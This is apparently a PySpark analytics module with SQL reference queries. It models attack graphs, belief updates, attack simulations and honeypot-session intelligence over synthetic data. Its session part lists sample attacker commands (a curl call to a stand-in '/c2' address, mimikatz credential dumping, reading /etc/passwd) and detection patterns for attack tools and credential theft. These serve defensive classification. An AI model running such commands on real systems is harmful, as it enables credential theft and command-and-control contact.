"""Attack graphs as probabilities: evidence, paths, hypotheses, simulations, intervals, assessments; and what sessions of deceived attackers tell.

Simulated draws are hashes of (run, place), not a generator's state: a task that runs again draws the same, and SQL can draw them too. A draw from
Beta(2, 5) is the second smallest of six uniform ones, one from Beta(2, 2) the second of three.
"""

from __future__ import annotations

import math
from collections.abc import Iterator

import numpy as np
import pandas as pd
import pyarrow as pa
from pyspark.sql import Column, DataFrame, Window as W, functions as F
from pyspark.sql.functions import pandas_udf

from brinewatch.operators import graphs, series
from brinewatch.sources.tables import EV, cut, events, read

# Decay rates of beliefs an hour, changes of belief by evidence, and shares of modifiers.
RATES = {"active_attack": -0.02, "data_exfiltration": -0.03, "privilege_escalation": -0.04, "lateral_movement": 0.01}
OTHER_RATE = -0.05
EVIDENCE = {"error": 0.3, "signup": 0.2, "view": -0.1, "click": -0.4}
NAMES = ("active_attack", "data_exfiltration", "privilege_escalation", "lateral_movement", "other")


def uniform(*parts: Column | str | int) -> Column:
    """A number of 0 to 1 that hangs on the parts alone."""
    text = F.concat_ws(":", *(p.cast("string") if isinstance(p, Column) else F.lit(str(p)) for p in parts))
    return F.conv(F.substring(F.md5(text), 1, 13), 16, 10).cast("double") / float(1 << 52)


def second_of(n: int, *parts: Column | str | int) -> Column:
    """A draw from Beta(2, n - 1)."""
    return F.array_sort(F.array(*(uniform(*parts, i) for i in range(n))))[1]


def belief_evolution(ev: DataFrame, hours: int = 24, step: int = 6, threshold: float = 0.7) -> DataFrame:
    """How each actor's belief moves by its hypothesis's rate, and the first hour at which it reaches the threshold."""
    p = series.beliefs(ev).select("actor", "belief", F.element_at(F.array(*map(F.lit, NAMES)), (F.col("actor") % 5 + 1).cast("int")).alias("hypothesis"))
    rate = F.coalesce(*(F.when(F.col("hypothesis") == n, r) for n, r in RATES.items()), F.lit(OTHER_RATE))
    x = p.withColumn("hour", F.explode(F.sequence(F.lit(0), F.lit(hours), F.lit(step)))).withColumn("p", F.round(F.least(F.lit(1.0), F.col("belief") * F.exp(rate * F.col("hour"))), 6))
    return x.groupBy("actor", "hypothesis").agg(F.max(F.when(F.col("hour") == hours, F.col("p"))).alias("last"), F.min(F.when(F.col("p") >= threshold, F.col("hour"))).cast("bigint").alias("reached"))


def belief_summary(ev: DataFrame) -> DataFrame:
    """The likeliest actor of each hypothesis, how many beliefs there are, and how many of confidence over .7."""
    b = series.beliefs(ev).join(series.confidence(ev), "actor").withColumn("hypothesis", F.element_at(F.array(*map(F.lit, NAMES)), (F.col("actor") % 5 + 1).cast("int")))
    return b.groupBy("hypothesis").agg(F.count("*").alias("n"), F.max_by("actor", F.struct("belief", -F.col("actor"))).alias("likeliest"), F.count(F.when(F.col("confidence") > 0.7, 1)).alias("confident"))


def evidence(ev: DataFrame, prior: float = 0.1) -> DataFrame:
    """Each actor's probability after its evidence in order, held between 0 and 1 at each step (so it can't be a sum): read as a stream, an actor's last value is all that is held."""
    ordered = ev.select("actor", "us", "event_id", "action", F.least(F.col("value") / 100, F.lit(1.0)).alias("c")).repartition("actor").sortWithinPartitions("actor", "us", "event_id")

    def fold(batches: Iterator[pa.RecordBatch]) -> Iterator[pa.RecordBatch]:
        actor, p, n = None, prior, 0
        done: list[tuple] = []
        for b in batches:
            for a, act, c in zip(*(b.column(x).to_pylist() for x in ("actor", "action", "c")), strict=True):
                if a != actor:
                    if n:
                        done.append((actor, n, p))
                    actor, p, n = a, prior, 0
                n += 1
                d = EVIDENCE.get(act)
                if d is not None:
                    p = min(1.0, p + c * d) if d > 0 else max(0.0, p + c * d)
            if done:
                yield pa.RecordBatch.from_arrays([pa.array(x) for x in zip(*done, strict=True)], ["actor", "n", "p"])
                done = []
        if n:
            yield pa.RecordBatch.from_arrays([pa.array([actor]), pa.array([n]), pa.array([p])], ["actor", "n", "p"])

    return ordered.mapInArrow(fold, "actor long, n long, p double").select("actor", "n", F.round("p", 6).alias("p"))


def success(edges: DataFrame) -> DataFrame:
    """Edges with the logarithm of the odds that a step succeeds unseen: .9 of the weight times (1 - detection), detection being ((src + dst) mod 5) / 10."""
    return edges.select("src", "dst", F.log(0.9 * F.col("weight") * (1 - ((F.col("src") + F.col("dst")) % 5) / 10.0)).alias("weight"))


def path_probabilities(edges: DataFrame, depth: int = 3, least: float = 0.1) -> DataFrame:
    """Simple paths from entry points (nodes mod 4 = 0) whose product of odds is over a least one."""
    roots = edges.where("src % 4 = 0").select(F.col("src").alias("root")).distinct()
    p = graphs.paths(success(edges), depth, roots)
    return p.select("src", "dst", "path", F.round(F.exp("risk"), 5).alias("p")).where(F.col("p") > least)


def hypotheses(edges: DataFrame) -> DataFrame:
    """Targeted attacks on nodes of high value (mod 5 = 0) by their best path, lateral movement by links between servers (mod 3 = 1), exfiltration by links to the outside (mod 6 = 5); only likely ones."""
    best = path_probabilities(edges, least=0.0).where("dst % 5 = 0").groupBy("dst").agg(F.max("p").alias("p"))
    targeted = best.select(F.concat(F.lit("targeted_attack_"), F.col("dst").cast("string")).alias("hypothesis"), "p")
    a = edges.agg(F.count(F.when((F.col("src") % 3 == 1) & (F.col("dst") % 3 == 1) & (F.col("weight") > 0.3), 1)).alias("links"), F.count(F.when(F.col("dst") % 6 == 5, 1)).alias("out"))
    n = edges.select(F.col("src").alias("node")).union(edges.select("dst")).where("node % 3 = 1").distinct().agg(F.count("*").alias("n"))
    lateral = F.least(F.lit(0.8), F.col("links") / (0.5 * F.col("n")))
    rows = a.crossJoin(F.broadcast(n)).select(F.explode(F.array(F.struct(F.lit("lateral_movement").alias("hypothesis"), F.round(lateral, 5).alias("p"), F.lit(0.3).alias("t")), F.struct(F.lit("data_exfiltration").alias("hypothesis"), F.round(F.least(F.lit(0.9), 0.3 * F.col("out")), 5).alias("p"), F.lit(0.2).alias("t")))).alias("x")).select("x.*")
    return targeted.unionAll(rows.where("p > t").select("hypothesis", "p"))




def simulation(ev: DataFrame, runs: int = 1000) -> DataFrame:
    """Runs of an attack: entries are the two actors with most errors, targets the privileged resources (number mod 10 of 8 or more). One of the entries gives way with .3, each target with .4 then, and is seen with .2. By target: how often taken,
    and seen; and the mean minutes of a run that succeeds. Draws are hashes of run and target, so targets are tried in parallel and a task that runs again draws the same."""
    entries = ev.where("action = 'error'").groupBy("actor").agg(F.count("*").alias("n")).orderBy(F.desc("n"), "actor").limit(2).select(F.col("actor").cast("string").alias("entry"))
    r = ev.sparkSession.range(runs).select(F.col("id").alias("run"))
    r = r.crossJoin(F.broadcast(entries)).where(uniform(F.col("run"), F.col("entry")) < 0.3).select("run").distinct()  # two rows
    targets = ev.where("k % 10 >= 8").select(F.col("resource").alias("target")).distinct()
    x = targets.crossJoin(F.broadcast(r))  # a stated number of runs of every target
    x = x.withColumns({"taken": uniform(F.col("run"), F.col("target")) < 0.4, "seen": uniform(F.col("run"), F.col("target"), "seen") < 0.2, "minutes": -45 * F.log(1 - uniform(F.col("run"), F.col("target"), "time"))})
    return x.groupBy("target").agg(F.count("*").alias("entered"), F.count(F.when(F.col("taken"), 1)).alias("taken"), F.count(F.when(F.col("taken") & F.col("seen"), 1)).alias("seen"), F.round(F.avg(F.when(F.col("taken"), F.col("minutes"))), 6).alias("minutes"))


def monte_carlo_risk(edges: DataFrame, runs: int = 200, damping: float = 0.85) -> DataFrame:
    """Mean, deviation and range of each node's risk over runs: base times a Beta(2, 5) draw, then one turn over edges, each with a Beta(2, 2) draw. All parents count as they were drawn."""
    r = edges.sparkSession.range(runs).select(F.col("id").alias("run"))
    nodes = edges.select(F.col("src").alias("node")).union(edges.select("dst")).distinct().withColumn("base", (F.col("node") % 7) / 10.0)
    drawn = nodes.crossJoin(r).withColumn("risk", F.col("base") * second_of(6, F.col("run"), F.col("node")))  # a stated number of runs of every node
    flow = drawn.join(edges, F.col("node") == F.col("src")).groupBy("run", F.col("dst").alias("node")).agg(F.sum(F.col("risk") * F.col("weight") * second_of(3, F.col("run"), F.col("src"), F.col("dst"))).alias("flow"))
    x = drawn.join(flow, ["run", "node"], "left").withColumn("x", F.greatest(F.lit(0.0), F.least(F.lit(1.0), (1 - damping) * F.col("base") + damping * F.coalesce("flow", F.lit(0.0)))))
    return x.groupBy("node").agg(F.round(F.avg("x"), 6).alias("mean"), F.round(F.stddev_pop("x"), 6).alias("std"), F.round(F.percentile("x", 0.05), 6).alias("p5"), F.round(F.percentile("x", 0.95), 6).alias("p95"))


def _beta_below(x: np.ndarray, a: np.ndarray, b: np.ndarray) -> np.ndarray:
    """The regularised incomplete beta function, by its continued fraction (on the side where it converges fast)."""
    flip = x > (a + 1) / (a + b + 2)
    x, a, b = np.where(flip, 1 - x, x), np.where(flip, b, a), np.where(flip, a, b)
    front = np.exp(np.vectorize(math.lgamma)(a + b) - np.vectorize(math.lgamma)(a) - np.vectorize(math.lgamma)(b) + a * np.log(np.maximum(x, 1e-300)) + b * np.log1p(-np.minimum(x, 1 - 1e-16))) / a
    c, d = np.ones_like(x), 1 / (1 - (a + b) * x / (a + 1))
    h = d.copy()
    for m in range(1, 200):
        for t in (m * (b - m) * x / ((a + 2 * m - 1) * (a + 2 * m)), -(a + m) * (a + b + m) * x / ((a + 2 * m) * (a + 2 * m + 1))):
            d = 1 / (1 + t * d)
            c = 1 + t / c
            h = h * c * d
    return np.where(flip, 1 - front * h, front * h)


def _beta_quantile(q: pd.Series, a: pd.Series, b: pd.Series) -> pd.Series:
    lo, hi = np.zeros(len(q)), np.ones(len(q))
    for _ in range(50):
        mid = (lo + hi) / 2
        below = _beta_below(mid, a.to_numpy(float), b.to_numpy(float)) < q.to_numpy(float)
        lo, hi = np.where(below, mid, lo), np.where(below, hi, mid)
    return pd.Series((lo + hi) / 2)


def beta_quantile(q: Column, a: Column, b: Column) -> Column:
    """The q-th quantile of Beta(a, b), by bisection; Spark has no function for it."""
    return pandas_udf(_beta_quantile, "double")(q, a, b)


def credible_intervals(ev: DataFrame, level: float = 0.95) -> DataFrame:
    """The interval of each actor's share of errors under its Beta posterior."""
    c = series.conjugate(ev).select("actor", "alpha", "beta")
    return c.select("actor", "alpha", "beta", *(F.round(beta_quantile(F.lit(q), F.col("alpha").cast("double"), F.col("beta").cast("double")), 6).alias(n) for n, q in (("low", (1 - level) / 2), ("high", (1 + level) / 2))))


def _two_sided(t2: pd.Series, df: pd.Series) -> pd.Series:
    x = df.to_numpy(float) / (df.to_numpy(float) + t2.to_numpy(float))
    return pd.Series(np.clip(_beta_below(x, df.to_numpy(float) / 2, np.full(len(x), 0.5)), 0.0, 1.0))


def trend_significance(ev: DataFrame) -> DataFrame:
    """Correlation of each action's daily means with the day, the two-sided p-value of Student's t for it, and how strong that is (over .7, over .4)."""
    a = series.daily(ev).groupBy("action").agg(F.corr("x", "day").alias("r"), F.count("*").alias("n")).where("n >= 3 and r is not null")
    df = (F.col("n") - 2).cast("double")
    t2 = F.col("r") * F.col("r") * df / F.greatest(1 - F.col("r") * F.col("r"), F.lit(1e-12))
    strength = F.when(F.abs("r") > 0.7, "strong").when(F.abs("r") > 0.4, "moderate").otherwise("weak")
    return a.select("action", "n", F.round("r", 6).alias("r"), F.round(pandas_udf(_two_sided, "double")(t2, df), 6).alias("p"), strength.alias("strength"))


def children_updated(edges: DataFrame, start: int, seen: float = 0.9, depth: int = 2) -> DataFrame:
    """Probabilities after a start node's changed to `seen`, level by level: a child not yet reached becomes 1 less the product of (1 - p e) over parents of the level before and of
    (1 - p) over its other parents, e being .9 of the edge's weight. Nodes begin at (node mod 7) / 10."""
    e = cut(edges.groupBy("src", "dst").agg((0.9 * F.max("weight")).alias("e")))
    first = F.when(F.col("node") == start, F.lit(seen)).otherwise((F.col("node") % 7) / 10.0)
    state = cut(edges.select(F.col("src").alias("node")).union(edges.select("dst")).distinct().select("node", first.alias("p"), F.when(F.col("node") == start, 0).alias("level")))
    for k in range(1, depth + 1):
        met = e.join(state.select(F.col("node").alias("src"), F.col("p").alias("q"), F.col("level").alias("from")), "src")
        front = F.coalesce(F.col("from") == k - 1, F.lit(False))
        new = met.groupBy(F.col("dst").alias("node")).agg(F.max(front.cast("int")).alias("reached"), (1 - F.exp(F.sum(F.log(F.greatest(1 - F.when(front, F.col("q") * F.col("e")).otherwise(F.col("q")), F.lit(1e-12)))))).alias("new")).where("reached = 1")
        taken = F.col("level").isNull() & F.col("new").isNotNull()
        state = cut(state.join(new, "node", "left").select("node", F.when(taken, F.col("new")).otherwise(F.col("p")).alias("p"), F.when(taken, k).otherwise(F.col("level")).alias("level")))
    return state.select("node", F.round("p", 6).alias("p"), F.col("level").cast("bigint").alias("level"))


def conditional(ev: DataFrame) -> DataFrame:
    """Probability of an error of each actor (its Beta mean) under its conditions: the geometric mean of the modifiers that apply (skill, defence, time pressure, risk of detection)."""
    a = ev.groupBy("actor").agg(((F.count(F.when(F.col("action") == "error", 1)) + 2) / (F.count("*") + 7)).alias("mean"))
    m = F.array_compact(F.array(F.when(F.col("actor") % 3 == 1, 0.7).when(F.col("actor") % 3 == 2, 0.9), F.when(F.col("actor") % 2 == 0, 0.3).otherwise(0.8), F.when(F.col("actor") % 5 == 0, 0.5), F.when(F.col("actor") % 4 == 0, 1 - 0.6)))
    log = F.aggregate(m, F.lit(0.0), lambda s, x: s + F.log(x)) / F.size(m)
    return a.select("actor", F.round(F.least(F.lit(1.0), F.col("mean") * F.exp(log)), 6).alias("p"))


def assessment(ev: DataFrame) -> DataFrame:
    """Resources as assets: risk from share of errors, of purchases and value of number (k mod 10), category, and for the ten riskiest their place, priority and what a mitigation is expected to take off."""
    share = lambda act: F.count(F.when(F.col("action") == act, 1)) / F.count("*")
    risk = F.least(F.lit(1.0), 0.5 * share("error") + 0.3 * share("purchase") + 0.07 * (F.first("k") % 10))
    a = ev.groupBy("resource").agg(F.round(risk, 6).alias("risk"))
    top = a.orderBy(F.desc("risk"), "resource").limit(10).withColumn("place", F.row_number().over(W.orderBy(F.desc("risk"), "resource")).cast("bigint")).select("resource", "place")  # the report's ten
    category = F.when(F.col("risk") >= 0.8, "critical").when(F.col("risk") >= 0.6, "high").when(F.col("risk") >= 0.3, "medium").otherwise("low")
    return a.join(F.broadcast(top), "resource", "left").select("resource", "risk", category.alias("category"), "place", F.when(F.col("place").isNotNull(), F.when(F.col("risk") > 0.7, "high").otherwise("medium")).alias("priority"), F.when(F.col("place").isNotNull(), F.round(0.6 * F.col("risk"), 6)).alias("reduction"))


def deception(ev: DataFrame) -> DataFrame:
    """A capped trigger score of each actor and, from .4 on, the environment that suits it best (web for clicks, database for purchases, files for the rest)."""
    share = lambda act: F.count(F.when(F.col("action") == act, 1)) / F.count("*")
    a = ev.groupBy("actor").agg(F.count(F.when(F.col("action") == "error", 1)).alias("errors"), F.countDistinct("resource").alias("resources"), F.max((F.col("k") % 10 == 0).cast("int")).alias("jewel"), share("click").alias("web"), share("purchase").alias("database"), (1 - share("click") - share("purchase")).alias("files"))
    score = F.least(F.lit(1.0), F.when(F.col("errors") >= 3, 0.3).otherwise(0.0) + F.when(F.col("resources") > 20, 0.2).otherwise(0.0) + 0.25 * F.col("jewel") + F.when(F.col("web") > 0.2, 0.15).otherwise(0.0))
    weights = {"web": 1.5, "database": 1.4, "files": 0.5}
    suits = F.array(*(F.struct(F.round(w * F.col(n), 6).alias("s"), F.lit(n).alias("n")) for n, w in weights.items()))
    return a.select("actor", F.round(score, 6).alias("score"), F.when(score >= 0.4, F.array_max(suits)["n"]).alias("environment"))


# What commands of known tools, of techniques and names of sensitive files hold.
TOOLS = {"nmap": "nmap", "mimikatz": "mimikatz", "metasploit": "msf|metasploit", "cobalt": "cobalt|beacon"}
TECHNIQUES = {"discovery": "nmap|whoami|net view", "credential_access": "mimikatz|passwd|shadow", "exfiltration": "curl|scp|ftp"}
SENSITIVE = "passwd|shadow|key|secret|credential"
COMMANDS = ("nmap -sS 10.0.0.0", "mimikatz sekurlsa", "curl http://203.0.113.9/c2", "cat /etc/passwd", "ls -la")


def session_intelligence(commands: DataFrame) -> DataFrame:
    """By session: tools and techniques seen, sensitive commands, private and public addresses, and how many indicators (addresses, commands) there are. commands is (session, command)."""
    c = F.lower("command")
    ip = F.regexp_extract(c, r"([0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3})", 1)
    private = ip.rlike(r"^(10\.|192\.168\.|172\.(1[6-9]|2[0-9]|3[01])\.)")
    x = commands.select("session", *(c.rlike(p).cast("int").alias(f"tool_{n}") for n, p in TOOLS.items()), *(c.rlike(p).cast("int").alias(n) for n, p in TECHNIQUES.items()), c.rlike(SENSITIVE).cast("int").alias("sensitive"), F.when(ip != "", ip).alias("ip"), (private & (ip != "")).alias("private"), "command")
    tools = F.array_compact(F.array(*(F.when(F.max(f"tool_{n}") == 1, F.lit(n)) for n in sorted(TOOLS))))
    techniques = F.array_compact(F.array(*(F.when(F.max(n) == 1, F.lit(n)) for n in sorted(TECHNIQUES))))
    return x.groupBy("session").agg(F.array_join(tools, ",").alias("tools"), F.array_join(techniques, ",").alias("techniques"), F.sum("sensitive").alias("n_sensitive"), F.countDistinct(F.when(F.col("private"), F.col("ip"))).alias("n_private"), F.countDistinct(F.when(~F.col("private"), F.col("ip"))).alias("n_public"), (F.countDistinct("ip") + F.countDistinct("command")).alias("indicators"))


def _e(f, *a):
    return lambda s, d: f(events(s, d), *a)


def _sessions(s, d):
    pick = F.element_at(F.array(*map(F.lit, COMMANDS)), ((F.col("conv_id") * 3 + F.col("turn")) % len(COMMANDS) + 1).cast("int"))
    return session_intelligence(read(s, d, "conversations").select(F.col("conv_id").alias("session"), pick.alias("command")))


QUERIES = {
    "m3_evolution": _e(belief_evolution), "m3_summary": _e(belief_summary), "m5_evidence": _e(evidence), "m9_simulation": _e(simulation), "m10_intervals": _e(credible_intervals),
    "m11_assessment": _e(assessment), "m12_significance": _e(trend_significance), "m23_conditional": _e(conditional), "a14_deception": _e(deception), "a15_sessions": _sessions,
} | graphs.on_trade({"m4_children": (children_updated, 0), "m6_paths": (path_probabilities,), "m7_hypotheses": (hypotheses,), "r13_monte_carlo": (monte_carlo_risk,)})


def _u(*parts: str) -> str:
    return "(('0x' || substr(md5(concat_ws(':', " + ", ".join(parts) + ")), 1, 13))::BIGINT / 4503599627370496.0)"


_B = EV + """, bl AS (SELECT actor, round(1 / (1 + exp(-(ln(0.1 / 0.9) + sum(ln(CASE action WHEN 'error' THEN 0.8 WHEN 'purchase' THEN 0.6 ELSE 0.45 END / 0.5))))), 6) AS belief FROM ev GROUP BY actor), hy AS (SELECT *, ['active_attack', 'data_exfiltration', 'privilege_escalation', 'lateral_movement', 'other'][actor % 5 + 1] AS hypothesis FROM bl)"""
_S = graphs._TRADE + """, tw AS (SELECT src, dst, ln(0.9 * weight * (1 - ((src + dst) % 5) / 10.0)) AS weight FROM tr)""" + graphs._paths(3, "src % 4 = 0").replace(" FROM tr ", " FROM tw ").replace("JOIN tr ON ps.dst = tr.src", "JOIN tw tr ON ps.dst = tr.src") + ", pp AS (SELECT src, dst, path, round(exp(risk), 5) AS p FROM pa)"


def _children(depth: int) -> str:
    sql = graphs._TRADE + ", ed AS (SELECT src, dst, 0.9 * max(weight) AS e FROM tr GROUP BY ALL), z0 AS (SELECT node, CASE WHEN node = 0 THEN 0.9 ELSE (node % 7) / 10.0 END::DOUBLE AS p, CASE WHEN node = 0 THEN 0 END AS level FROM (SELECT src AS node FROM tr UNION SELECT dst FROM tr))"
    for k in range(1, depth + 1):
        sql += f", y{k} AS (SELECT dst AS node, 1 - exp(sum(ln(greatest(1 - CASE WHEN level = {k - 1} THEN p * e ELSE p END, 1e-12)))) AS q FROM ed JOIN z{k - 1} ON node = src GROUP BY dst HAVING bool_or(level = {k - 1})), z{k} AS (SELECT z.node, CASE WHEN level IS NULL AND q IS NOT NULL THEN q ELSE p END AS p, CASE WHEN level IS NULL AND q IS NOT NULL THEN {k} ELSE level END AS level FROM z{k - 1} z LEFT JOIN y{k} y ON y.node = z.node)"
    return sql + f" SELECT node, round(p, 6) AS p, CAST(level AS BIGINT) AS level FROM z{depth}"


_RLIKE = lambda p: f"regexp_matches(c, '{p}')"
ORACLE = {
    "m3_evolution": _B + """, x AS (SELECT actor, hypothesis, h, round(least(1.0, belief * exp(h * CASE hypothesis WHEN 'active_attack' THEN -0.02 WHEN 'data_exfiltration' THEN -0.03 WHEN 'privilege_escalation' THEN -0.04 WHEN 'lateral_movement' THEN 0.01 ELSE -0.05 END)), 6) AS p FROM hy, range(0, 25, 6) t(h))
 SELECT actor, hypothesis, max(p) FILTER (h = 24) AS last, min(h) FILTER (p >= 0.7) AS reached FROM x GROUP BY ALL""",
    "m3_summary": _B + """, r AS (SELECT actor, value, row_number() OVER (PARTITION BY actor ORDER BY us DESC, event_id DESC) AS r, count(*) OVER (PARTITION BY actor) AS n FROM ev), cf AS (SELECT actor, round(least(any_value(n) / 10.0, 1.0) * greatest(count(*) FILTER (value > 10), count(*) - count(*) FILTER (value > 10)) / count(*), 6) AS confidence FROM r WHERE r <= 5 GROUP BY actor)
 SELECT hypothesis, count(*) AS n, first(actor ORDER BY belief DESC, actor) AS likeliest, count(*) FILTER (confidence > 0.7) AS confident FROM hy JOIN cf USING (actor) GROUP BY hypothesis""",
    "m5_evidence": EV.replace("WITH ev", "WITH RECURSIVE ev") + """, o AS (SELECT actor, least(value / 100, 1.0) AS c, CASE action WHEN 'error' THEN 0.3 WHEN 'signup' THEN 0.2 WHEN 'view' THEN -0.1 WHEN 'click' THEN -0.4 END::DOUBLE AS d, row_number() OVER (PARTITION BY actor ORDER BY us, event_id) AS rn FROM ev),
 f AS (SELECT actor, 0::BIGINT AS n, 0.1::DOUBLE AS p FROM o WHERE rn = 1 UNION ALL SELECT f.actor, f.n + 1, CASE WHEN d IS NULL THEN p WHEN d > 0 THEN least(1.0, p + c * d) ELSE greatest(0.0, p + c * d) END FROM f JOIN o ON o.actor = f.actor AND o.rn = f.n + 1) SELECT actor, max(n) AS n, round(max_by(p, n), 6) AS p FROM f GROUP BY actor""",
    "m4_children": _children(2),
    "m6_paths": _S + " SELECT * FROM pp WHERE p > 0.1",
    "m7_hypotheses": _S + """, a AS (SELECT count(*) FILTER (src % 3 = 1 AND dst % 3 = 1 AND weight > 0.3) AS links, count(*) FILTER (dst % 6 = 5) AS o FROM tr), n AS (SELECT count(*) AS n FROM (SELECT src AS node FROM tr UNION SELECT dst FROM tr) WHERE node % 3 = 1)
 SELECT 'targeted_attack_' || dst AS hypothesis, max(p)::DOUBLE AS p FROM pp WHERE dst % 5 = 0 GROUP BY dst UNION ALL SELECT 'lateral_movement', round(least(0.8, links / (0.5 * n)), 5)::DOUBLE FROM a, n WHERE links / (0.5 * n) > 0.3 UNION ALL SELECT 'data_exfiltration', round(least(0.9, 0.3 * o), 5)::DOUBLE FROM a WHERE 0.3 * o > 0.2""",
    "m9_simulation": f"""{EV}, en AS (SELECT actor::VARCHAR AS entry FROM ev WHERE action = 'error' GROUP BY actor ORDER BY count(*) DESC, actor LIMIT 2), r AS (SELECT DISTINCT run FROM range(1000) t(run), en WHERE {_u('run', 'entry')} < 0.3), x AS (SELECT run, target, {_u('run', 'target')} < 0.4 AS taken, {_u('run', 'target', "'seen'")} < 0.2 AS seen, -45 * ln(1 - {_u('run', 'target', "'time'")}) AS minutes FROM r, (SELECT DISTINCT resource AS target FROM ev WHERE k % 10 >= 8))
 SELECT target, count(*) AS entered, count(*) FILTER (taken) AS taken, count(*) FILTER (taken AND seen) AS seen, round(avg(minutes) FILTER (taken), 6) AS minutes FROM x GROUP BY target""",
    "m11_assessment": EV + """, a AS (SELECT resource, round(least(1.0, 0.5 * count(*) FILTER (action = 'error') / count(*) + 0.3 * count(*) FILTER (action = 'purchase') / count(*) + 0.07 * (any_value(k) % 10)), 6)::DOUBLE AS risk FROM ev GROUP BY resource), b AS (SELECT *, row_number() OVER (ORDER BY risk DESC, resource) AS r FROM a)
 SELECT resource, risk, CASE WHEN risk >= 0.8 THEN 'critical' WHEN risk >= 0.6 THEN 'high' WHEN risk >= 0.3 THEN 'medium' ELSE 'low' END AS category, CASE WHEN r <= 10 THEN r END AS place, CASE WHEN r <= 10 THEN CASE WHEN risk > 0.7 THEN 'high' ELSE 'medium' END END AS priority, CASE WHEN r <= 10 THEN round(0.6 * risk, 6) END AS reduction FROM b""",
    "m23_conditional": EV + """, a AS (SELECT actor, (count(*) FILTER (action = 'error') + 2) / (count(*) + 7) AS m FROM ev GROUP BY actor), x AS (SELECT *, list_filter([CASE actor % 3 WHEN 1 THEN 0.7 WHEN 2 THEN 0.9 END, CASE WHEN actor % 2 = 0 THEN 0.3 ELSE 0.8 END, CASE WHEN actor % 5 = 0 THEN 0.5 END, CASE WHEN actor % 4 = 0 THEN 0.4 END]::DOUBLE[], lambda v: v IS NOT NULL) AS l FROM a)
 SELECT actor, round(least(1.0, m * exp(list_sum(list_transform(l, lambda v: ln(v))) / len(l))), 6)::DOUBLE AS p FROM x""",
    "r13_monte_carlo": graphs._TRADE + f""", nd AS (SELECT node, (node % 7) / 10.0 AS base FROM (SELECT src AS node FROM tr UNION SELECT dst FROM tr)), dr AS (SELECT run, node, base, base * list_sort([{', '.join(_u('run', 'node', str(i)) for i in range(6))}])[2] AS risk FROM nd, range(200) t(run)),
 fl AS (SELECT run, dst AS node, sum(risk * weight * list_sort([{', '.join(_u('run', 'src', 'dst', str(i)) for i in range(3))}])[2]) AS flow FROM dr JOIN tr ON node = src GROUP BY ALL), x AS (SELECT node, greatest(0, least(1, 0.15 * base + 0.85 * coalesce(flow, 0))) AS x FROM dr LEFT JOIN fl USING (run, node))
 SELECT node, round(avg(x), 6)::DOUBLE AS mean, round(stddev_pop(x), 6)::DOUBLE AS std, round(quantile_cont(x, 0.05), 6)::DOUBLE AS p5, round(quantile_cont(x, 0.95), 6)::DOUBLE AS p95 FROM x GROUP BY node""",
    "a14_deception": EV + """, a AS (SELECT actor, count(*) FILTER (action = 'error') AS e, count(DISTINCT resource) AS r, max((k % 10 = 0)::INT) AS j, count(*) FILTER (action = 'click') / count(*) AS web, count(*) FILTER (action = 'purchase') / count(*) AS db FROM ev GROUP BY actor),
 b AS (SELECT *, least(1.0, CASE WHEN e >= 3 THEN 0.3 ELSE 0 END + CASE WHEN r > 20 THEN 0.2 ELSE 0 END + 0.25 * j + CASE WHEN web > 0.2 THEN 0.15 ELSE 0 END) AS s, round(1.5 * web, 6) AS w1, round(1.4 * db, 6) AS w2, round(0.5 * (1 - web - db), 6) AS w3 FROM a)
 SELECT actor, round(s, 6)::DOUBLE AS score, CASE WHEN s >= 0.4 THEN CASE WHEN w1 >= w2 AND w1 >= w3 THEN 'web' WHEN w3 >= w2 THEN 'files' ELSE 'database' END END AS environment FROM b""",
    "a15_sessions": "WITH q AS (SELECT conv_id AS session, [" + ", ".join(f"'{c}'" for c in COMMANDS) + "][(conv_id * 3 + turn) % 5 + 1] AS command FROM conversations), x AS (SELECT session, command, lower(command) AS c, nullif(regexp_extract(lower(command), '([0-9]{1,3}[.][0-9]{1,3}[.][0-9]{1,3}[.][0-9]{1,3})', 1), '') AS ip FROM q) SELECT session, concat_ws(',', "
    + ", ".join(f"CASE WHEN bool_or({_RLIKE(TOOLS[n])}) THEN '{n}' END" for n in sorted(TOOLS)) + ") AS tools, concat_ws(',', " + ", ".join(f"CASE WHEN bool_or({_RLIKE(TECHNIQUES[n])}) THEN '{n}' END" for n in sorted(TECHNIQUES))
    + f") AS techniques, count(*) FILTER ({_RLIKE(SENSITIVE)}) AS n_sensitive, count(DISTINCT ip) FILTER (starts_with(ip, '10.')) AS n_private, count(DISTINCT ip) FILTER (NOT starts_with(ip, '10.')) AS n_public, count(DISTINCT ip) + count(DISTINCT command) AS indicators FROM x GROUP BY session",
}
